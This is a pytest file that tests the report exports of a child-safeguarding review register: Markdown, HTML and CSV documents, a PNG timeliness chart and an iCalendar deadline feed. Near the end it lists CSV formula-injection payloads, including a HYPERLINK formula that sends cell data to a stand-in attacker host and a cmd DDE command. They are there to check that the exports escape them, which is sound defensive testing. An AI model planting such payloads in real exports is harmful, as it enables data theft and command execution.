"""The reports as files: Markdown, HTML, CSV, the timeliness PNG and the iCalendar feed, from
the seeded register."""

from __future__ import annotations

import csv
import dataclasses
import io
import struct
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from pathlib import Path

import icalendar
import pytest

from register import db
from reports import calendar as ics
from reports import chart, documents, figures
from reports.figures import CalendarEntry, ReportingYear, Timeliness
from tests.register.seeding import CHILD_NAMES, REF, seed

YEAR = ReportingYear.parse("2026-27")
END = date(2027, 3, 31)


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> figures.RegisterData:
    url = f"sqlite:///{tmp_path_factory.mktemp('outputs') / 'register.db'}"
    db.upgrade(url)
    with db.session(url) as session:
        seed(session)
    with db.session(url) as session:
        found = figures.load(session, "LSCP")
    db.forget(url)
    return found


def png_size(path: Path) -> tuple[int, int]:
    head = path.read_bytes()[:24]
    assert head[:8] == b"\x89PNG\r\n\x1a\n" and head[12:16] == b"IHDR"
    width, height = struct.unpack(">II", head[16:24])
    return width, height


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.seen: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append(tag)
        if tag not in {"meta", "img", "br"}:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.stack and self.stack[-1] == tag, f"</{tag}> closes {self.stack[-1:]}"
        self.stack.pop()


def test_annual_report_in_markdown_html_and_csv(data: figures.RegisterData) -> None:
    fig = figures.annual(data, YEAR, END, "LSCP")
    doc = documents.annual_document(fig, chart="annual-2026-27-timeliness.png")
    md = documents.to_markdown(doc)
    assert md.startswith("# Annual report figures 2026-27\n")
    assert "| Notifications made within 5 working days | 3 | 1 | 2 | 33.3% | 1 |" in md
    assert "| Rapid reviews completed within 15 working days | 3 | 2 | 1 | 66.7% | 1 |" in md
    assert "| Health (ICB) | 2 | 1 |" in md and "| Police | 1 | 1 |" in md
    assert "| Total | 7 |" in md  # referrals
    assert "| 7-minute briefings | 2 |" in md and "| Training | 1 |" in md
    assert "![Timeliness against statute, 2026-27](annual-2026-27-timeliness.png)" in md

    page = documents.to_html(doc)
    tags = _Tags()
    tags.feed(page)
    assert tags.stack == ["html"] or tags.stack == []
    assert tags.seen.count("table") == 8 and "img" in tags.seen
    assert '<td class="n">33.3%</td>' in page

    rows = list(csv.reader(io.StringIO(documents.annual_csv(fig))))
    assert rows[0] == ["section", "measure", "number", "of", "percent"]
    assert [
        "timeliness",
        "Rapid reviews completed within 15 working days",
        "2",
        "3",
        "66.7",
    ] in rows
    assert ["overdue actions by agency", "Health (ICB)", "1", "", ""] in rows
    assert ["learning outputs", "7-minute briefings", "2", "", ""] in rows
    for text in (md, page, documents.annual_csv(fig)):
        assert not any(name in text for name in CHILD_NAMES)


def test_bi_monthly_summary_in_markdown_html_and_csv(data: figures.RegisterData) -> None:
    fig = figures.summary(data, date(2027, 1, 1), END, "LSCP")
    doc = documents.summary_document(fig)
    md = documents.to_markdown(doc)
    assert "5 reviews (5 open); 1 decision recorded since 1 January 2027." in md
    assert (
        f"| {REF['A']} | Local Child Safeguarding Practice Review | Action plan monitoring |" in md
    )
    assert "| Share information at the front door | 2 |" in md
    assert "2027-02-01: [LSCP-2026-00000A] Overdue: Action A1 was due 2027-01-31" in md
    page = documents.to_html(doc)
    tags = _Tags()
    tags.feed(page)
    assert "<h2>Themes</h2>" in page
    rows = list(csv.DictReader(io.StringIO(documents.summary_csv(fig))))
    assert [r["case_ref"] for r in rows] == [REF[k] for k in "FABEG"]
    a = next(r for r in rows if r["case_ref"] == REF["A"])
    assert (a["actions"], a["actions_done"], a["actions_overdue"]) == ("3", "1", "1")
    assert a["next_due_on"] == "2027-01-31"


def test_markdown_and_html_escape_what_they_show() -> None:
    doc = documents.Document(
        "T <&>",
        ["intro"],
        [documents.Section("S", tables=[documents.Table(["a|b"], [["<x> | y"]])])],
    )
    assert "| a\\|b |" in documents.to_markdown(doc)
    page = documents.to_html(doc)
    assert "<title>T &lt;&amp;&gt;</title>" in page and "<td>&lt;x&gt; | y</td>" in page


def test_timeliness_chart_is_a_png_people_can_read(
    data: figures.RegisterData, tmp_path: Path
) -> None:
    fig = figures.annual(data, YEAR, END, "LSCP")
    path = chart.timeliness_chart(
        documents.timeliness_for_chart(fig),
        "Timeliness against statute, 2026-27 (LSCP)",
        tmp_path / "timeliness.png",
    )
    width, height = png_size(path)
    assert (width, height) == (1200, 552)
    assert 15_000 < path.stat().st_size < 500_000


def test_timeliness_chart_copes_with_nothing_done(tmp_path: Path) -> None:
    nothing = [Timeliness("Notifications made within 5 working days", "5 working days", 0, 0, 0)]
    width, height = png_size(chart.timeliness_chart(nothing, "Nothing", tmp_path / "n.png"))
    assert width == 1200 and height > 100


def _entry(title: str, on: date, **fields: object) -> CalendarEntry:
    values: dict[str, object] = {
        "uid": f"{REF['A']}.x@safeguarding-review-orchestrator",
        "case_ref": REF["A"],
        "title": title,
        "kind": "action",
        "on": on,
        "sequence": 0,
        "owner": "Police",
        "statutory": False,
    }
    values.update(fields)
    return CalendarEntry(**values)  # type: ignore[arg-type]


def test_calendar_is_valid_rfc_5545(data: figures.RegisterData) -> None:
    entries = figures.upcoming(data, date(2027, 1, 1))
    now = datetime(2027, 1, 1, 9, 30, tzinfo=UTC)
    text = ics.calendar(entries, now=now, name="Safeguarding review deadlines (LSCP)")
    raw = text.encode("utf-8")
    assert raw.endswith(b"\r\n") and b"\n" not in raw.replace(b"\r\n", b"")
    assert all(len(line) <= 75 for line in raw.split(b"\r\n"))
    parsed = icalendar.Calendar.from_ical(text)
    assert parsed["VERSION"] == "2.0" and parsed["PRODID"]
    events = list(parsed.walk("VEVENT"))
    assert len(events) == 5
    first = events[0]
    assert str(first["UID"]) == f"{REF['A']}.action-A1@safeguarding-review-orchestrator"
    assert first.decoded("DTSTART") == date(2027, 1, 31)  # an all-day date, not a time
    assert "VALUE=DATE:20270131" in text
    assert first.decoded("DTSTAMP") == now
    assert str(first["SUMMARY"]) == f"[{REF['A']}] Action A1"
    statutory = events[2]
    assert str(statutory["SUMMARY"]) == (
        f"[{REF['G']}] Serious Incident Notification to the National Panel"
    )
    assert "Statutory timescale" in str(statutory["DESCRIPTION"])
    assert not any(name in text for name in CHILD_NAMES)


def test_calendar_folds_long_lines_at_75_octets_without_splitting_characters() -> None:
    title = "Information from Children's Social Care, Health; and Police — résumé " * 3
    text = ics.calendar([_entry(title, date(2027, 2, 1))], now=datetime.now(UTC), name="x")
    lines = text.encode("utf-8").split(b"\r\n")
    assert all(len(line) <= 75 for line in lines)
    for line in lines:
        line.decode("utf-8")  # each folded line is whole characters
    event = next(iter(icalendar.Calendar.from_ical(text).walk("VEVENT")))
    assert str(event["SUMMARY"]) == f"[{REF['A']}] {title}"


#: Text a spreadsheet would run as a formula, one for each dangerous first character (OWASP).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_text_that_starts_a_formula_is_escaped(
    data: figures.RegisterData, formula: str
) -> None:
    fig = figures.annual(data, YEAR, END, "LSCP")
    hostile = dataclasses.replace(
        fig,
        actions_by_agency=[figures.AgencyActions(formula, 1, 0)],
        learning=[figures.Count(formula, -3)],  # a negative number stays a number
    )
    rows = list(csv.reader(io.StringIO(documents.annual_csv(hostile))))
    assert ["open actions by agency", f"'{formula}", "1", "", ""] in rows
    assert ["learning outputs", f"'{formula}", "-3", "", ""] in rows
    rapid = "Rapid reviews completed within 15 working days"
    assert ["timeliness", rapid, "2", "3", "66.7"] in rows  # numbers are written as before

    summary = figures.summary(data, date(2027, 1, 1), END, "LSCP")
    line = dataclasses.replace(summary.reviews[0], partnership=formula, themes=[formula])
    text = documents.summary_csv(dataclasses.replace(summary, reviews=[line]))
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["partnership"] == f"'{formula}" and row["themes"] == f"'{formula}"
    assert row["case_ref"] == summary.reviews[0].case_ref  # ordinary text is unchanged


def test_csv_text_that_is_safe_is_unchanged() -> None:
    for text in ("Health (ICB)", "2027-01-31", "O'Brien", "a=b", "", "3"):
        assert documents.csv_text(text) == text
